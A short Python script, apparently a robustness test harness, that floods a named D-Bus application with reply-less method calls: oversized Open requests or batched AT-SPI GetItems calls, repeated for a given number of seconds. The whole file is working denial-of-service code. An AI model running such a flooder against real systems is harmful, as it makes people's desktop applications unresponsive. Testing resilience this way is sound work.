"""flood.py BUS NAME SECONDS open|items: calls a program without waiting for answers, as any program can that is on its bus: calls with much in
them, or calls that make much work."""

import sys
import time

from gi.repository import Gio, GLib

bus, name, seconds, kind = sys.argv[1:]
connection = Gio.DBusConnection.new_for_address_sync(
    bus, Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)
if kind == "open":
    message = Gio.DBusMessage.new_method_call(name, "/" + name.replace(".", "/"), "org.freedesktop.Application", "Open")
    message.set_body(GLib.Variant("(asa{sv})", (["vault://nowhere"] + [""] * 40_000, {})))
    batch, pause = 1, 0.03
else:
    message = Gio.DBusMessage.new_method_call(name, "/org/a11y/atspi/cache", "org.a11y.atspi.Cache", "GetItems")
    batch, pause = 2000, 0.02
message.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
message.set_serial(1_000_000)
calls = message.to_blob(Gio.DBusCapabilityFlags.NONE) * batch
out = connection.get_stream().get_output_stream()
end = time.monotonic() + float(seconds)
print("flooding", flush=True)
while time.monotonic() < end:
    out.write_all(calls, None)
    time.sleep(pause)
